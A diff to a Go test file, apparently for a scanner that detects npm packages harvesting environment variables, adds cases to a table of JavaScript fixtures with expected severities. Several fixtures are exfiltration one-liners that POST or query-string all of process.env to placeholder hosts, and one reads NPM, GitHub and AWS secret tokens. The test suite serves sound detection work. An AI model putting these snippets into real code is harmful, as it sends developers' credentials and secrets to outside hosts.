@@ -11,6 +11,8 @@ func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
 		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityHigh},
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityHigh},
+		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityHigh},
+		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
 		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) {}`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
 		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
